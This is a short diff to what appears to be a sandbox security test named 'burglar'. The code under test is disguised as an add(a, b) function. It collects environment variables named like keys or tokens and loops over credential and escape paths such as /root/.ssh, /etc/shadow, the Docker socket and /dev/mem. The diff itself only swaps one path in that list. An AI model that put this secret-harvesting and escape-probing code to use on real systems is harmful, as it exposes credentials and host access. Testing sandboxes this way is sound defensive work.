@@ -482,7 +482,7 @@ burglar(
     """import os
 def add(a, b):
     doors = [name for name in os.environ if "GREENCODE" in name or "KEY" in name or "TOKEN" in name]
-    for path in (os.path.join("/root", ".ssh"), "/home", "/etc/shadow", "/mnt", "/var/run/docker.sock", "/run/docker.sock", "/var/lib",
+    for path in (os.path.join("/root", ".ssh"), "/etc/ssh", "/etc/shadow", "/mnt", "/var/run/docker.sock", "/run/docker.sock", "/var/lib",
                  "/proc/kcore", "/proc/kallsyms_", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/kvm", "/dev/fuse",
                  "/dev/net/tun", "/proc/1/root"):
         try:
